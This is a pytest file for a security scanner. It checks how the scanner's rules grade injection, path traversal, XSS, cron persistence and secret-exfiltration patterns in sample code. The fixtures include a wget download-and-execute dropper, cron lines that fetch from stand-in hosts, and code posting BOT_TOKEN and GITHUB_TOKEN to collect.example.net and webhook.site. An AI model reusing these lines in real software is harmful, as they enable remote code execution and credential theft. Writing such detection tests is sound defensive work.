"""Request data that a check or a server signature vouches for, and data that only decides a branch."""
from __future__ import annotations

import pytest

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def _by_line(rule_id: str, text: str, path: str = "views.py") -> dict[int, str]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
    return {f.line: f.severity for f in found if f.rule_id == rule_id}


ZIP_VIEW = ("import os, zipfile\n"
            "def import_theme(request):\n"
            "    archive = zipfile.ZipFile(request.FILES['theme'])\n"
            "    root = os.path.realpath('/srv/themes')\n"
            "    for member in archive.infolist():\n"
            "        target = os.path.realpath(os.path.join(root, member.filename))\n"
            "{check}"
            "        with open(target, 'wb') as out:\n"
            "            out.write(archive.read(member))\n")


def test_a_member_path_kept_inside_the_folder_by_commonpath_is_checked_not_traversal():
    check = ("        if os.path.commonpath([root, target]) != root:\n"
             "            raise ValueError('bad member')\n")
    assert _by_line("path-from-request-input", ZIP_VIEW.format(check=check)) == {9: "medium"}
    assert _by_line("path-from-request-input", ZIP_VIEW.format(check="")) == {7: "high"}


def test_a_path_object_only_asked_about_its_text_opens_nothing():
    # aiohttp's static route: `if Path(filename).is_absolute(): raise HTTPNotFound()` refuses absolute names; the
    # same name turned into a Path that is read (or a Path then opened) is still traversal
    text = ("from pathlib import Path\n"
            "from flask import Flask, abort, request\n"
            "app = Flask(__name__)\n"
            "@app.get('/f')\n"
            "def serve():\n"
            "    name = request.args['name']\n"
            "    if Path(name).is_absolute():\n"
            "        abort(404)\n"
            "    return Path(name).read_text() + Path(name).suffix\n"
            "@app.get('/g')\n"
            "def serve_parent():\n"
            "    return Path(request.args['name']).parent.read_text()\n")
    assert _by_line("path-from-request-input", text) == {7: "low", 9: "high", 12: "high"}
    assert _by_line("path-from-request-input", text.replace(" + Path(name).suffix", "")) == \
        {7: "low", 9: "high", 12: "high"}
    inspected = text.replace("Path(name).read_text() + Path(name).suffix", "Path(name).suffix")
    assert _by_line("path-from-request-input", inspected) == {7: "low", 9: "low", 12: "high"}


def test_a_check_of_another_value_does_not_vouch_for_the_path():
    check = ("        if os.path.commonpath([root, '/srv']) != root:\n"
             "            raise ValueError('bad root')\n")
    assert _by_line("path-from-request-input", ZIP_VIEW.format(check=check)) == {9: "high"}


def test_the_condition_of_a_conditional_expression_is_not_in_its_value():
    text = ("import os\n"
            "from flask import request\n"
            "def run():\n"
            "    cmd = 'uptime' if request.args.get('short') else 'uptime -p'\n"
            "    os.system(cmd)\n"
            "    other = request.args['c'] if request.args.get('raw') else 'uptime'\n"
            "    os.system(other)\n")
    assert _by_line("command-from-request-input", text) == {7: "critical"}


def test_a_tornado_handler_writing_request_text_in_markup_is_high_a_dict_medium_escaped_nothing():
    text = ("import tornado.escape, tornado.web\n"
            "class H(tornado.web.RequestHandler):\n"
            "    def get(self):\n"
            "        q = self.get_argument('q')\n"
            "        self.write('<h1>' + q + '</h1>')\n"
            "        self.write({'q': q})\n"
            "        self.write('<h1>' + tornado.escape.xhtml_escape(q) + '</h1>')\n")
    assert _by_line("xss-from-request-input", text, "handlers.py") == {5: "high", 6: "medium"}


def test_a_download_saved_then_run_through_a_variable_is_critical_a_saved_archive_is_not():
    text = ("import os\n"
            "DROP = 'wget -q -O /tmp/.x https://a.example/x && chmod +x /tmp/.x && /tmp/.x'\n"
            "DATA = 'wget -q -O /tmp/d.tgz https://a.example/d.tgz && tar xzf /tmp/d.tgz'\n"
            "def go():\n"
            "    os.system(DROP)\n"
            "    os.system(DATA)\n")
    assert _by_line("shell-command-downloads-file", text, "setup_helpers.py") == {5: "critical"}


def test_a_cron_line_starting_an_installed_program_is_medium_a_download_or_temp_program_high():
    text = ("def f():\n"
            "    with open('/etc/cron.d/a', 'w') as fh:\n"
            "        fh.write('0 3 * * * root /usr/sbin/logrotate /etc/logrotate.d/app\\n')\n"
            "    with open('/etc/cron.d/b', 'w') as fh:\n"
            "        fh.write('*/5 * * * * root /usr/bin/curl -s https://x.example/a -o /tmp/a\\n')\n"
            "    with open('/etc/cron.d/c', 'w') as fh:\n"
            "        fh.write('@reboot root /tmp/.x/agent\\n')\n")
    found = _by_line("shell-startup-file-write", text, "install.py")
    assert {line: sev for line, sev in found.items() if line in (3, 5, 7)} == {3: "medium", 5: "high", 7: "high"}


def test_ssh_runs_request_text_as_a_remote_command_line_a_checked_host_or_other_ssh_tools_stay_medium():
    text = ("import subprocess\n"
            "from flask import abort, request\n"
            "HOSTS = {'web1', 'web2'}\n"
            "def run(name):\n"
            "    subprocess.run(['ssh', 'deploy@' + name, request.form['cmd']])\n"
            "    if name not in HOSTS:\n"
            "        abort(404)\n"
            "    subprocess.run(['ssh', 'deploy@' + name, 'uptime'])\n"
            "    subprocess.run(['ssh-keygen', '-F', request.form['host']])\n")
    assert _by_line("command-from-request-input", text, "app.py") == {5: "critical", 9: "medium"}


SQL_VIEW = ("from fastapi import FastAPI\n"
            "from clickhouse_driver import Client\n"
            "app = FastAPI()\n"
            "client = Client(host='ch')\n"
            "TABLES = frozenset(('pages', 'referrers'))\n"
            "@app.get('/top')\n"
            "def top(table: str):\n"
            "{check}"
            "    return client.execute('SELECT * FROM ' + table + ' ORDER BY hits DESC')\n")


# an allow-list check that stops keeps the table name to known words (medium); a check that does not stop, or none,
# leaves it injectable
SQL_CASES = [
    ("    if table not in TABLES:\n        return []\n", {"sql-from-request-input": {10: "medium"},
                                                        "sql-built-from-string": {10: "medium"}}),
    ("", {"sql-from-request-input": {8: "critical"}, "sql-built-from-string": {8: "high"}}),
    ("    if table not in TABLES:\n        print('unknown table')\n", {"sql-from-request-input": {10: "critical"}}),
]


@pytest.mark.parametrize("check, expected", SQL_CASES, ids=["allow-list", "no-check", "check-not-stopping"])
def test_sql_from_request_input_graded_by_an_allow_list_check_that_stops(check, expected):
    for rule, lines in expected.items():
        assert _by_line(rule, SQL_VIEW.format(check=check)) == lines, rule


def test_sh_and_plumbum_programs_are_commands_a_shell_critical_another_program_argument_injection():
    text = ("import sh\n"
            "from flask import request\n"
            "from plumbum import local\n"
            "def run():\n"
            "    sh.bash('-c', 'convert ' + request.args['o'])\n"
            "    local['sh']('-c', request.args['c'])\n"
            "    sh.git('log', request.args['rev'])\n"
            "    local['grep']('-r', request.args['p'], '/srv')\n")
    assert _by_line("command-from-request-input", text) == {5: "critical", 6: "critical", 7: "medium", 8: "medium"}


def test_a_bot_token_in_the_telegram_api_url_is_low_sent_elsewhere_high():
    text = ("import os, requests\n"
            "def alert(msg):\n"
            "    requests.get(f\"https://api.telegram.org/bot{os.environ['BOT_TOKEN']}/sendMessage?text={msg}\")\n"
            "def leak():\n"
            "    requests.post('https://collect.example.net/t', data={'t': os.environ['BOT_TOKEN']})\n"
            "def ci(msg):\n"
            "    requests.post('https://webhook.site/x', data={'t': os.environ['GITHUB_TOKEN']})\n")
    assert _by_line("secret-env-var-sent-over-network", text, "notify.py") == {3: "low", 7: "high"}
